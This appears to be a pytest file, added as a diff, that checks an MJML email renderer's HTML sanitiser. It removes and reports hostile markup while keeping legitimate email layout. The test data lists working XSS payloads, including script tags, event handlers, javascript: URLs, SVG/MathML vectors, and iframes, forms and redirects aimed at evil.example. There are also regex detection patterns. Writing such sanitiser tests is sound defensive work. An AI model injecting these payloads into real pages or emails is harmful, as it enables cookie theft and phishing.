@@ -1,0 +1,150 @@
+"""Hostile HTML in mj-raw and mj-text is removed by the sanitiser and reported; email markup survives."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from journey.render import render_email
+from journey.sanitize import sanitize_html
+
+FORBIDDEN = [
+    re.compile(r"<script", re.I),
+    re.compile(r"<[a-z][^>]*\son[a-z]+\s*=", re.I),
+    re.compile(r"(?:java|vb)script\s*:", re.I),
+    re.compile(r"<(?:iframe|object|embed|frame|form|input|base|svg|math)\b", re.I),
+    re.compile(r"<meta[^>]*refresh", re.I),
+    re.compile(r"expression\s*\(|-moz-binding|behavior\s*:", re.I),
+]
+
+
+def _email(where: str, hostile: str) -> str:
+    if where == "mj-raw":
+        block = f"<mj-raw>{hostile}</mj-raw>"
+    else:
+        block = f"<mj-section>\n<mj-column>\n<mj-text>{hostile}</mj-text>\n</mj-column>\n</mj-section>"
+    return (
+        "<mjml>\n<mj-body>\n<mj-section>\n<mj-column>\n<mj-text>Safe text</mj-text>\n</mj-column>\n</mj-section>\n"
+        f"{block}\n</mj-body>\n</mjml>\n"
+    )
+
+
+HOSTILE = [
+    pytest.param("<script>alert(document.cookie)</script>", "unsafe-script", id="script"),
+    pytest.param('<SCRIPT src="https://evil.example/x.js"></SCRIPT>', "unsafe-script", id="script-uppercase"),
+    pytest.param('<img src="x.png" alt="" onerror="alert(1)" />', "unsafe-event-handler", id="img-onerror"),
+    pytest.param(
+        '<a href="https://ok.example" onclick="steal()">ok</a>', "unsafe-event-handler", id="onclick"
+    ),
+    pytest.param('<a href="javascript:alert(1)">click</a>', "unsafe-javascript-url", id="javascript-link"),
+    pytest.param(
+        '<a href=" JaVaScRiPt:alert(1)">click</a>', "unsafe-javascript-url", id="javascript-mixed-case"
+    ),
+    pytest.param('<img src="javascript:alert(1)" alt="" />', "unsafe-javascript-url", id="javascript-img"),
+    pytest.param('<svg onload="alert(1)"><circle r="5" /></svg>', "unsafe-svg", id="svg-onload"),
+    pytest.param("<svg><script>alert(1)</script></svg>", "unsafe-svg", id="svg-script"),
+    pytest.param('<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', "unsafe-svg", id="svg-link"),
+    pytest.param('<math><mtext><img src="x" onerror="alert(1)"/></mtext></math>', "unsafe-svg", id="math"),
+    pytest.param('<iframe src="https://evil.example"></iframe>', "unsafe-iframe", id="iframe"),
+    pytest.param('<object data="https://evil.example/x.swf"></object>', "unsafe-iframe", id="object"),
+    pytest.param('<embed src="https://evil.example/x.swf" />', "unsafe-iframe", id="embed"),
+    pytest.param(
+        '<form action="https://evil.example"><input name="password" /></form>', "unsafe-form", id="form"
+    ),
+    pytest.param('<base href="https://evil.example/" />', "unsafe-base", id="base"),
+    pytest.param(
+        '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
+        "unsafe-meta-refresh",
+        id="meta-refresh",
+    ),
+    pytest.param('<div style="width: expression(alert(1))">x</div>', "unsafe-css", id="style-expression"),
+    pytest.param(
+        "<div style=\"background: url('javascript:alert(1)')\">x</div>",
+        "unsafe-css",
+        id="style-url-javascript",
+    ),
+    pytest.param(
+        "<style>.x { -moz-binding: url(https://evil.example/x.xml#xss) }</style>",
+        "unsafe-css",
+        id="moz-binding",
+    ),
+    pytest.param("<style>.x { behavior: url(x.htc) }</style>", "unsafe-css", id="behavior"),
+]
+
+
+@pytest.mark.parametrize("where", ["mj-raw", "mj-text"])
+@pytest.mark.parametrize(("hostile", "rule"), HOSTILE)
+def test_hostile_html_is_removed_and_reported_with_its_line(where, hostile, rule):
+    email = render_email(_email(where, hostile))
+    for pattern in FORBIDDEN:
+        assert pattern.search(email.html) is None, pattern.pattern
+    findings = {f.rule: f for f in email.findings}
+    assert rule in findings
+    assert findings[rule].severity == "error"
+    assert findings[rule].line == (8 if where == "mj-raw" else 10)
+    assert "Safe text" in email.html
+
+
+def test_every_kind_of_removal_is_its_own_finding():
+    hostile = '<script>x()</script><img src="a.png" alt="" onerror="x()"/><a href="javascript:x()">y</a><iframe src="https://e.example"></iframe>'
+    rules = sorted(f.rule for f in render_email(_email("mj-raw", hostile)).findings)
+    assert rules == ["unsafe-event-handler", "unsafe-iframe", "unsafe-javascript-url", "unsafe-script"]
+
+
+def test_hostile_css_in_mj_style_is_neutralised():
+    source = (
+        "<mjml><mj-head><mj-style>.a { background: url(javascript:alert(1)); width: expression(alert(2)) }"
+        '</mj-style></mj-head><mj-body><mj-section><mj-column><mj-text css-class="a">x</mj-text>'
+        "</mj-column></mj-section></mj-body></mjml>"
+    )
+    email = render_email(source)
+    assert "javascript" not in email.html.lower()
+    assert "expression(" not in email.html.lower()
+    assert {f.rule for f in email.findings} == {"unsafe-javascript-url", "unsafe-css"}
+
+
+def test_email_markup_survives_sanitising():
+    source = (
+        "<mjml><mj-head><mj-style>.note { color: #555555; }</mj-style></mj-head>"
+        '<mj-body background-color="#f4efe9"><mj-section background-color="#ffffff"><mj-column>'
+        '<mj-text css-class="note" font-size="16px"><p style="margin:0">Hello <a href="https://example.com/a?b=1" '
+        'target="_blank">link</a> <a href="mailto:hi@example.com">mail</a> <a href="tel:+15035550100">call</a></p></mj-text>'
+        '<mj-table><tr style="border-bottom:1px solid #ecedee"><td width="50%" bgcolor="#eeeeee" align="left">A</td></tr></mj-table>'
+        '<mj-button href="https://example.com/go">Go</mj-button>'
+        "</mj-column></mj-section></mj-body></mjml>"
+    )
+    email = render_email(source)
+    html = email.html
+    assert email.findings == []
+    assert "<style" in html
+    assert ".note { color: #555555; }" in html
+    assert 'style="margin:0"' in html
+    assert 'bgcolor="#eeeeee"' in html
+    assert 'width="50%"' in html
+    assert 'align="left"' in html
+    assert "<table" in html
+    assert "<td" in html
+    assert re.search(r'class="[^"]*\bnote\b', html)
+    assert 'href="https://example.com/a?b=1"' in html
+    assert 'href="mailto:hi@example.com"' in html
+    assert 'href="tel:+15035550100"' in html
+    assert "<!--[if mso | IE]>" in html  # Outlook conditional comments are kept
+    assert '<meta name="viewport"' in html
+
+
+def test_words_that_look_hostile_in_plain_text_are_not_findings():
+    email = render_email(
+        _email("mj-text", "Never paste javascript: links or an onload= handler, says the guide.")
+    )
+    assert email.findings == []
+    assert "javascript: links" in email.html
+
+
+def test_sanitize_html_on_its_own_reports_without_a_line():
+    clean, findings = sanitize_html(
+        '<html><head></head><body><p onclick="x()">hi</p><script>x()</script></body></html>'
+    )
+    assert "<script" not in clean
+    assert "onclick" not in clean
+    assert {(f.rule, f.line) for f in findings} == {("unsafe-event-handler", None), ("unsafe-script", None)}
